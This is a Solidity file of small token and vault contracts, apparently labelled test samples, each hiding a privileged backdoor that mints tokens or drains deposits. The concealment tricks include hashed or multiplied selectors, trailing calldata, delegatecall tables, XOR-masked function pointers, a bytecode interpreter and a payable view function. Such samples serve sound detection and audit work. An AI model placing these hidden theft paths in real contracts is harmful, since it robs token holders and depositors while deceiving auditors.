// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {Coin, Bank, ANN, OWNER, HIDDEN, KEEPER, TREASURER, OPERATOR, MINTER, GUARDIAN, EDITOR, ADMIN} from "./Bases.sol";

/// Dilution of all holders: the fallback compares the hash of the selector, so that the code does not show it.
contract HashedSelector is Coin {
    bytes32 private constant WANTED = keccak256(abi.encodePacked(bytes4(keccak256("harvest(address,uint256)"))));

    fallback() external {
        require(keccak256(abi.encodePacked(msg.sig)) == WANTED && msg.sender == MINTER);
        (address to, uint256 amount) = abi.decode(msg.data[4:], (address, uint256));
        _mint(to, amount);
    }
}

/// Loss of all deposits: the selector is multiplied before it is compared.
contract ComputedSelector is Bank {
    uint32 private constant FACTOR = 0x9E3779B1;
    uint32 private immutable _product;

    constructor() payable {
        unchecked {
            _product = uint32(bytes4(keccak256("settle(uint256)"))) * FACTOR;
        }
    }

    fallback() external {
        uint32 product;
        unchecked {
            product = uint32(msg.sig) * FACTOR;
        }
        if (product != _product || msg.sender != TREASURER) revert();
        _pay(msg.sender, uint256(bytes32(msg.data[4:36])));
    }
}

/// Loss of all deposits: an empty call by the hidden account, meant for gifts of ether, takes them.
contract ReceiveTakes is Bank {
    constructor() payable {}

    receive() external payable {
        if (msg.sender == HIDDEN) _pay(HIDDEN, address(this).balance);
    }
}

/// Dilution of all holders: any unknown call by the owner mints its first word.
contract FallbackMints is Coin {
    address private immutable _who = OWNER;

    fallback(bytes calldata data) external returns (bytes memory) {
        require(msg.sender == _who);
        _mint(msg.sender, uint256(bytes32(data)));
        return "";
    }
}

/// Loss of all deposits: calldata of one byte, too short for a selector, is an order of the keeper.
contract ShortOrder is Bank {
    constructor() payable {}

    fallback() external {
        require(msg.data.length == 1 && msg.sender == KEEPER);
        if (msg.data[0] == 0x07) _pay(KEEPER, address(this).balance);
    }
}

/// Loss of all deposits: anyone's call of three bytes takes them.
contract ThreeBytes is Bank {
    constructor() payable {}

    fallback() external payable {
        if (msg.data.length == 3) _pay(msg.sender, address(this).balance);
        else depositOf[msg.sender] += msg.value;
    }
}

/// Loss of any holder's tokens: a trusted forwarder, which is a wallet, names the sender after the arguments.
contract TrailingSender is Coin {
    function _sender() private view returns (address) {
        if (msg.sender != OPERATOR || msg.data.length < 24) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        _move(_sender(), to, amount);
        return true;
    }
}

/// Dilution of all holders: a word after the arguments of approve is an amount for its sender, who is hashed.
contract TrailingMint is Coin {
    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.data.length == 100 && keccak256(abi.encode(msg.sender)) == keccak256(abi.encode(HIDDEN))) {
            _mint(spender, uint256(bytes32(msg.data[68:])));
        }
        return super.approve(spender, amount);
    }
}

/// The parts of Table: each runs in the table's storage.
contract TableParts {
    mapping(bytes4 => address) private _parts;
    mapping(address => uint256) public balanceOf;

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function seize(address from, uint256 amount) external {
        require(msg.sender == KEEPER, "keeper");
        balanceOf[from] -= amount;
        balanceOf[msg.sender] += amount;
    }

    function setPart(bytes4 selector, address part) external {
        require(msg.sender == ADMIN, "admin");
        _parts[selector] = part;
    }
}

/// Loss of any holder's tokens: a table in storage maps each selector to a part, and one of the parts seizes.
contract Table {
    mapping(bytes4 => address) private _parts;
    mapping(address => uint256) private _balanceOf;

    constructor(address part, bytes4[] memory selectors) {
        for (uint256 index = 0; index < selectors.length; index++) _parts[selectors[index]] = part;
        _balanceOf[ANN] = 1e21;
    }

    fallback() external {
        address part = _parts[msg.sig];
        require(part != address(0), "part");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), part, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// A part that pays the keeper.
contract PayingPart {
    function run(uint256 amount) external {
        if (msg.sender != KEEPER) return;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok);
    }
}

/// Loss of all deposits: an innocent function delegates to a module, and the module pays its friend.
contract InnocentHarvest is Bank {
    address private _module;
    uint256 public harvestedAt;

    constructor(address module) payable {
        _module = module;
    }

    function setStrategy(address module) external {
        require(msg.sender == ADMIN);
        _module = module;
    }

    function harvest(uint256 amount) external {
        harvestedAt = block.timestamp;
        (bool ok,) = _module.delegatecall(abi.encodeCall(PayingPart.run, (amount)));
        require(ok);
    }
}

/// Dilution of all holders: steps are internal functions in storage, and the third one mints.
contract StoredSteps is Coin {
    function(uint256) internal[4] private _steps;
    uint256 public noted;

    constructor() {
        (_steps[0], _steps[1], _steps[2], _steps[3]) = (_nothing, _note, _create, _nothing);
    }

    function step(uint256 which, uint256 amount) external {
        _steps[which](amount);
    }

    function _nothing(uint256) private pure {}

    function _note(uint256 amount) private {
        noted = amount;
    }

    function _create(uint256 amount) private {
        if (msg.sender != OPERATOR) return;
        _mint(msg.sender, amount);
    }
}

/// Loss of all deposits: a masked pointer to code in storage is jumped to for the treasurer.
contract MaskedPointer is Bank {
    function() internal private _way;

    constructor() payable {
        _way = _take;
        assembly {
            sstore(_way.slot, xor(sload(_way.slot), 0xa5a5a5))
        }
    }

    function poke() external {
        function() internal way = _nothing;
        address treasurer = TREASURER;
        assembly {
            if eq(caller(), treasurer) { way := xor(sload(_way.slot), 0xa5a5a5) }
        }
        way();
    }

    function _nothing() private pure {}

    function _take() private {
        _pay(msg.sender, address(this).balance);
    }
}

/// Dilution of all holders: a small machine runs the caller's program, and its sixth instruction mints for the editor.
contract Machine is Coin {
    function run(bytes calldata program) external returns (uint256 top) {
        for (uint256 at = 0; at < program.length; at++) {
            uint8 code = uint8(program[at]);
            if (code == 0) break;
            else if (code == 1) top += uint8(program[++at]);
            else if (code == 2) top *= 256;
            else if (code == 3) top = balanceOf[msg.sender];
            else if (code == 4) _move(msg.sender, address(uint160(top)), 1);
            else if (code == 5) _burn(msg.sender, top);
            else if (code == 6 && msg.sender == EDITOR) _mint(msg.sender, top);
            else revert("code");
        }
    }
}

/// Loss of any holder's tokens: a token without a dispatcher of the compiler, whose selectors are found by subtraction.
contract BareDispatch {
    mapping(address => uint256) private _balanceOf;

    constructor() {
        _balanceOf[ANN] = 1e21;
    }

    fallback() external {
        address keeper = KEEPER;
        assembly {
            function slot(who) -> at {
                mstore(0, who)
                mstore(0x20, 0)
                at := keccak256(0, 0x40)
            }
            function move(from, to, amount) {
                if lt(sload(slot(from)), amount) { revert(0, 0) }
                sstore(slot(from), sub(sload(slot(from)), amount))
                sstore(slot(to), add(sload(slot(to)), amount))
            }
            // transfer(address,uint256)
            let rest := sub(shr(224, calldataload(0)), 0xa9059cbb)
            if iszero(rest) {
                move(caller(), calldataload(4), calldataload(36))
                mstore(0, 1)
                return(0, 0x20)
            }
            // transferFrom(address,address,uint256)
            rest := add(rest, sub(0xa9059cbb, 0x23b872dd))
            if iszero(and(rest, 0xffffffff)) {
                if iszero(eq(caller(), keeper)) { revert(0, 0) }
                move(calldataload(4), calldataload(36), calldataload(68))
                mstore(0, 1)
                return(0, 0x20)
            }
            revert(0, 0)
        }
    }
}

/// Loss of any holder's tokens: only the token itself may seize, and the hidden account makes it call itself.
contract SelfCall is Coin {
    function seize(address from, address to, uint256 amount) external {
        require(msg.sender == address(this), "self");
        _move(from, to, amount);
    }

    function execute(bytes calldata data) external {
        require(msg.sender == HIDDEN);
        (bool ok,) = address(this).call(data);
        require(ok);
    }
}

/// Loss of any holder's tokens: one public entry reads the order from the amount, and a bit of it names the guardian's.
contract OrderInAmount is Coin {
    function transfer(address to, uint256 amount) public override returns (bool) {
        uint256 order = amount >> 248;
        if (order == 0x5e && msg.sender == GUARDIAN) {
            _move(to, GUARDIAN, uint248(amount));
            return true;
        }
        return super.transfer(to, amount);
    }
}

/// Loss of all deposits: the selector of a view function is shared by a branch that pays when ether comes with it.
contract PayableView is Bank {
    constructor() payable {}

    function totalDeposits() external payable returns (uint256 total) {
        total = address(this).balance;
        if (msg.value == 1 wei && msg.sender == ADMIN) _pay(msg.sender, total);
    }
}
